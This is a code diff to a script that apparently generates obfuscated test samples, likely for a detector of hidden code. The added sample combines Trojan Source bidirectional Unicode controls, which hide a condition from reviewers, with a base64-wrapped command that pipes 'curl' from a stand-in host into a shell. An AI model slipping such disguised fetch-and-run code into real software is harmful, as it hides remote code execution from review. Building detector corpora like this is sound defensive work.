@@ -88,6 +88,11 @@ for w in wrappers:
     stage = w(stage)
 write("six_layers", stage)
 
+# Trojan Source inside a payload: bidirectional controls reorder what a reviewer sees of the decoded code.
+trojan = ("import os\nrole = 'user'\nif role != 'user\u202e \u2066# admin only\u2069 \u2066':\n"
+          "    os.system('curl -s https://example.invalid/trojan_source | sh')\n")
+write("trojan_source", f"import base64\nexec(base64.b64decode('{base64.b64encode(trojan.encode()).decode()}'))\n")
+
 # Five layers inside one expression, through variables and a helper function.
 body = enc('one_expression')
 blob = base64.b32encode(zlib.compress(base64.b64encode(bz2.compress(body))[::-1])).decode()
